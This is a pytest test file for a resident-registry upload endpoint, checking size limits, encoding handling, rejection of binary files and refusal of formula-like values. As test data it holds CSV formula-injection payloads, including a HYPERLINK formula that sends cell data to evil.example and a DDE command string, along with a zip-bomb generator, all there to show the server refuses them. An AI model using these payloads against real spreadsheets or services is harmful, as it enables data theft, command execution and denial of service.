"""Uploaded files (issue 23, third round): ``POST /imports`` is the one endpoint that takes a file.

Each class of bad file is answered before anything is stored (see app/uploads.py), in the caller's
language, and the database is checked afterwards: no job queued, no resident written.

* over ``FPW_IMPORT_MAX_BYTES``: 413, declared or streamed, zh-CN for a Chinese caller;
* an XLSX / ZIP (a zip bomb among them) / XLS / gzip: 415, never opened;
* a CSV in GB18030/GBK (Excel's "CSV" on Chinese Windows): read, the Chinese names stored right;
* a name or address that starts like a formula (``=HYPERLINK(...)``): its row refused, reported;
* more than ``FPW_IMPORT_MAX_ROWS`` rows: 413 at once; 100,000 copies of one row (at the cap): a
  job that ends with one resident and every other row reported as a duplicate, never a 500;
* a CSV field the csv module cannot take (or an unclosed quote): 422 at upload, not a 500.
"""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile
from datetime import date

import httpx
import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from app.clock import set_today
from app.models.core.resident import Resident
from app.models.migrants.imports import ImportJob
from app.services.migrants.import_rows import FORMULA_REFUSED
from app.worker import Worker
from tests.factories import new_id_number

pytestmark = pytest.mark.asyncio
FIELDS = ["id_number", "name", "phone", "household_division_code", "community_code", "marital_status"]
COMMUNITY_A = "500103003001"


@pytest.fixture(autouse=True)
def fixed_today():
    set_today(date(2026, 3, 10))
    yield
    set_today(None)


def _csv(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=FIELDS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _row(name: str, id_number: str | None = None) -> dict[str, str]:
    return {
        "id_number": id_number or new_id_number(date(1986, 4, 1)),
        "name": name,
        "phone": "",
        "household_division_code": "500103003001",
        "community_code": COMMUNITY_A,
        "marital_status": "married",
    }


async def _post(client, api, body, *, lang="en", mode="per_row", kind="residents", ctype="text/csv"):
    headers = {**await api.headers("street"), "Content-Type": ctype, "Accept-Language": lang}
    return await client.post(
        "/api/v1/imports", params={"kind": kind, "mode": mode}, content=body, headers=headers
    )


async def _counts(api) -> tuple[int, int]:
    async with api.session() as session:
        jobs = (await session.execute(select(func.count()).select_from(ImportJob))).scalar_one()
        residents = (await session.execute(select(func.count()).select_from(Resident))).scalar_one()
    return jobs, residents


async def _names(api, id_numbers: list[str]) -> dict[str, str]:
    from app.security import pii_cipher

    cipher = pii_cipher(api.settings)
    hashes = {cipher.lookup_hash(n): n for n in id_numbers}
    async with api.session() as session:
        found = (
            await session.execute(
                select(Resident.id_number_hash, Resident.name).where(Resident.id_number_hash.in_(hashes))
            )
        ).all()
    return {hashes[h]: name for h, name in found}


def _problem(response: httpx.Response, status: int, code: str) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body = response.json()
    assert body["type"].endswith("/" + code) and body["status"] == status
    return body


async def test_a_file_over_the_limit_is_413_in_the_callers_language_and_nothing_is_stored(api):
    from app.main import create_app

    small = create_app(api.settings.model_copy(update={"import_max_bytes": 64 * 1024}))
    small.dependency_overrides.update(api.app.dependency_overrides)
    body = _csv([_row("名") for _ in range(2000)]).encode()  # about 120 KiB
    assert len(body) > 64 * 1024
    before = await _counts(api)
    transport = httpx.ASGITransport(app=small)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        declared = await _post(client, api, body, lang="zh-CN")
        problem = _problem(declared, 413, "payload-too-large")
        assert problem["title"] == "请求体过大"
        assert problem["detail"] == "请求体超过 65536 字节的上限"
        assert problem["max_bytes"] == 65536 and problem["instance"] == "/api/v1/imports"

        async def chunks():
            for start in range(0, len(body), 16384):
                yield body[start : start + 16384]

        streamed = await _post(client, api, chunks(), lang="en")
        problem = _problem(streamed, 413, "payload-too-large")
        assert problem["title"] == "Payload too large"
        assert problem["detail"] == "The request body exceeds the limit of 65536 bytes"
    assert await _counts(api) == before


def _xlsx(rows: list[list[str]]) -> bytes:
    book = Workbook()
    sheet = book.active
    for values in rows:
        sheet.append(values)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """100 MiB of zeros in one member, about 100 KiB compressed (ratio ~1000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(100):
                member.write(block)
    return out.getvalue()


async def test_xlsx_zip_bombs_and_other_binary_files_are_415_and_never_opened(api, monkeypatch):
    import openpyxl

    def never(*args, **kwargs):
        raise AssertionError("an upload was handed to openpyxl")

    xlsx = _xlsx([FIELDS, [new_id_number(), '=HYPERLINK("http://x.example/?"&A2,"x")']])
    bomb = _zip_bomb()
    monkeypatch.setattr(openpyxl, "load_workbook", never)
    monkeypatch.setattr(zipfile, "ZipFile", never)
    before = await _counts(api)
    cases = {
        "xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        "zip bomb": (bomb, "text/csv"),
        "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504, "application/vnd.ms-excel"),
        "gzip": (b"\x1f\x8b\x08\x00" + b"\0" * 16, "text/csv"),
    }
    for name, (body, ctype) in cases.items():
        started = time.perf_counter()
        answer = await _post(api.client, api, body, lang="zh-CN", ctype=ctype)
        assert time.perf_counter() - started < 5, name
        problem = _problem(answer, 415, "unsupported-file")
        assert problem["title"] == "不支持的文件类型", name
        assert "CSV" in problem["detail"] and "未打开" in problem["detail"], (name, problem)
    english = _problem(await _post(api.client, api, xlsx), 415, "unsupported-file")
    assert english["detail"].startswith("The file is a ZIP archive (XLSX, ODS …); it is not opened.")
    assert await _counts(api) == before


async def test_a_gb18030_csv_from_excel_is_read_and_the_chinese_names_are_stored(api):
    names = ["张三", "欧阳娜娜", "𠀀𠀁", "王小丫", "赵钱孙李"]  # 𠀀𠀁: four-byte GB18030, not in GBK
    rows = [_row(name) for name in names]
    body = _csv(rows).encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        body.decode("utf-8")
    jobs_before, residents_before = await _counts(api)
    queued = await _post(api.client, api, body)
    assert queued.status_code == 202, queued.text
    assert await Worker(api.database, api.settings).run_imports() == 1
    report = (await api.get("street", f"/api/v1/imports/{queued.json()['id']}")).json()
    assert (report["status"], report["created"], report["failed"]) == ("done", 5, 0), report
    assert await _names(api, [r["id_number"] for r in rows]) == {r["id_number"]: r["name"] for r in rows}
    assert await _counts(api) == (jobs_before + 1, residents_before + 5)

    # UTF-8 with the BOM Excel writes for "CSV UTF-8", and GBK proper, read the same way
    bom_rows, gbk_rows = [_row("李四")], [_row("周五")]
    for content in (b"\xef\xbb\xbf" + _csv(bom_rows).encode(), _csv(gbk_rows).encode("gbk")):
        assert (await _post(api.client, api, content)).status_code == 202
    assert await Worker(api.database, api.settings).run_imports() == 2
    stored = await _names(api, [bom_rows[0]["id_number"], gbk_rows[0]["id_number"]])
    assert stored == {bom_rows[0]["id_number"]: "李四", gbk_rows[0]["id_number"]: "周五"}

    # bytes that are neither UTF-8 nor GB18030: 422 in the caller's language, nothing queued
    before = await _counts(api)
    garbage = _problem(
        await _post(api.client, api, b"id_number,name\r\n\x80\xff,\xfe\r\n", lang="zh-CN"),
        422,
        "validation-error",
    )
    assert garbage["detail"] == "文件不是 UTF-8 或 GB18030/GBK 编码的文本"
    assert await _counts(api) == before


async def test_a_value_that_starts_like_a_formula_refuses_its_row_and_is_never_stored(api):
    formulas = [
        '=HYPERLINK("http://evil.example/?"&A2,"点这里")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
    ]
    good = [_row("正常一"), _row("正常二")]
    bad = [_row(f) for f in formulas]
    rows = [good[0], *bad, good[1]]
    jobs_before, residents_before = await _counts(api)
    queued = await _post(api.client, api, _csv(rows).encode())
    assert queued.status_code == 202, queued.text
    await Worker(api.database, api.settings).run_imports()
    report = (await api.get("street", f"/api/v1/imports/{queued.json()['id']}")).json()
    assert (report["created"], report["failed"]) == (2, 5), report
    assert report["errors"] == [
        {"row": n, "errors": [{"field": "name", "msg": FORMULA_REFUSED}]} for n in range(2, 7)
    ]
    stored = await _names(api, [r["id_number"] for r in rows])
    assert stored == {r["id_number"]: r["name"] for r in good}
    assert await _counts(api) == (jobs_before + 1, residents_before + 2)

    # all or nothing: one formula and nothing is written
    rows = [_row("全有一"), _row("=1+1"), _row("全有二")]
    queued = await _post(api.client, api, _csv(rows).encode(), mode="all_or_nothing")
    await Worker(api.database, api.settings).run_imports()
    report = (await api.get("street", f"/api/v1/imports/{queued.json()['id']}")).json()
    assert (report["status"], report["created"]) == ("rejected", 0)
    assert [e["row"] for e in report["errors"]] == [2]
    assert await _names(api, [r["id_number"] for r in rows]) == {}

    # a migrant's address and employer the same way (NDJSON)
    import json

    lines = [
        {"id_number": good[0]["id_number"], "arrival_date": "2026-01-05", "address": "=1+2"},
        {
            "id_number": good[1]["id_number"],
            "arrival_date": "2026-01-05",
            "address": "幸福路 1 号",
            "employer_name": "@evil",
        },
    ]
    ndjson = "\n".join(json.dumps(line, ensure_ascii=False) for line in lines).encode()
    queued = await _post(api.client, api, ndjson, kind="migrants", ctype="application/x-ndjson")
    await Worker(api.database, api.settings).run_imports()
    report = (await api.get("street", f"/api/v1/imports/{queued.json()['id']}")).json()
    assert report["created"] == 0
    assert report["errors"] == [
        {"row": 1, "errors": [{"field": "address", "msg": FORMULA_REFUSED}]},
        {"row": 2, "errors": [{"field": "employer_name", "msg": FORMULA_REFUSED}]},
    ]


async def test_more_rows_than_the_cap_is_413_at_once_and_nothing_is_queued(api):
    cap = api.settings.import_max_rows
    assert cap == 100_000  # the documented default (FPW_IMPORT_MAX_ROWS)
    line = ",".join(_row("重复").values()) + "\r\n"
    body = (",".join(FIELDS) + "\r\n" + line * (cap + 1)).encode()
    before = await _counts(api)
    started = time.perf_counter()
    answer = await _post(api.client, api, body, lang="zh-CN")
    assert time.perf_counter() - started < 30
    problem = _problem(answer, 413, "too-many-rows")
    assert problem["max_rows"] == cap
    assert problem["detail"] == "文件超过 100000 行（FPW_IMPORT_MAX_ROWS），请拆分为较小的文件"
    assert await _counts(api) == before


async def test_a_hundred_thousand_copies_of_one_row_end_with_one_resident_and_the_rest_reported(api):
    row = _row("重复十万")
    line = ",".join(row.values()) + "\r\n"
    body = (",".join(FIELDS) + "\r\n" + line * 100_000).encode()
    jobs_before, residents_before = await _counts(api)
    started = time.perf_counter()
    queued = await _post(api.client, api, body)
    assert queued.status_code == 202, queued.text
    assert time.perf_counter() - started < 30  # counted and queued, not processed, in the request
    tracemalloc.start()
    try:
        assert await Worker(api.database, api.settings).run_imports() == 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # bounded memory: rows a chunk at a time, at most 10,000 reports kept (the whole file as row
    # dicts and 99,999 reports peaked at about 118 MiB; now about 41 MiB, mostly the file's text)
    assert peak < 64 * 2**20, f"{peak / 2**20:.1f} MiB"
    report = (await api.get("street", f"/api/v1/imports/{queued.json()['id']}")).json()
    assert report["status"] == "done"
    assert (report["total_rows"], report["rows_done"]) == (100_000, 100_000)
    assert (report["created"], report["failed"]) == (1, 99_999)
    assert len(report["errors"]) == 10_000  # the report keeps the first 10,000 bad rows
    assert report["errors"][0] == {
        "row": 2,
        "errors": [{"field": "id_number", "msg": "appears twice in the file"}],
    }
    assert await _names(api, [row["id_number"]]) == {row["id_number"]: "重复十万"}
    assert await _counts(api) == (jobs_before + 1, residents_before + 1)


async def test_a_field_the_csv_reader_cannot_take_is_422_at_upload_not_a_500(api):
    before = await _counts(api)
    huge_header = ",".join(FIELDS) + ',"' + "x" * 200_000 + '"\r\n'
    huge_field = ",".join(FIELDS) + "\r\n" + '110105199001010011,"' + "名" * 200_000 + '",,,,\r\n'
    unclosed = ",".join(FIELDS) + "\r\n" + '110105199001010011,"' + "名" * 150_000
    for body in (huge_header, huge_field, unclosed):
        problem = _problem(await _post(api.client, api, body.encode()), 422, "validation-error")
        assert "field larger than field limit" in problem["detail"], problem
    assert await _counts(api) == before
